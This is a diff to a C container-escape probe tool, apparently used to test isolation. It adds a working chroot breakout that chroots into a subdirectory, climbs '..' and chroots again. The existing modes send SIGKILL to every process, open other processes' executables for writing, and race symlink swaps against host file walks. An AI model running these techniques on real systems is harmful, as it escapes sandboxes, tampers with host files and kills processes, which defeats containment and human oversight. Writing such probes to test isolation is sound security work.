@@ -7,6 +7,9 @@
 //   escape-probe scan-exe SECONDS    opens every other process's /proc/PID/exe for that long and
 //                                    reports each distinct file reached ("exe DEV:INO write=RESULT")
 //   escape-probe signal-all          SIGKILL to every pid but itself and 1 ("pid PID RESULT")
+//   escape-probe chroot-escape       the classic escape from a chroot (CAP_SYS_CHROOT is Docker's
+//                                    default): chroot into a subdirectory, climb "..", chroot there;
+//                                    then lists "/" ("root NAME" lines) to show where it ended
 //   escape-probe swap A B SECONDS    exchanges the names A and B (a directory and a symlink) as
 //                                    fast as it can, to race a host-side walk of the container's files
 #include <dirent.h>
@@ -157,12 +160,27 @@ static int swap(const char *first, const char *second, int seconds) {
     return 0;
 }
 
+static int chroot_escape(void) {
+    mkdir("/escape-probe-jail", 0700);
+    printf("chroot %s\n", result(chroot("/escape-probe-jail")));
+    for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
+    printf("chroot-dot %s\n", result(chroot(".")));
+    DIR *root = opendir("/");
+    if (!root) { perror("opendir /"); return 1; }
+    struct dirent *entry;
+    while ((entry = readdir(root)))
+        if (entry->d_name[0] != '.') printf("root %s\n", entry->d_name);
+    closedir(root);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     if (argc >= 2 && strcmp(argv[1], "fds") == 0) return list_fds();
     if (argc >= 2 && strcmp(argv[1], "syscalls") == 0) return try_syscalls();
     if (argc >= 3 && strcmp(argv[1], "scan-exe") == 0) return scan_exe(atoi(argv[2]));
     if (argc >= 2 && strcmp(argv[1], "signal-all") == 0) return signal_all();
+    if (argc >= 2 && strcmp(argv[1], "chroot-escape") == 0) return chroot_escape();
     if (argc >= 5 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3], atoi(argv[4]));
-    fprintf(stderr, "usage: escape-probe fds | syscalls | scan-exe SECONDS | signal-all | swap A B SECONDS\n");
+    fprintf(stderr, "usage: escape-probe fds | syscalls | scan-exe SECONDS | signal-all | chroot-escape | swap A B SECONDS\n");
     return 2;
 }
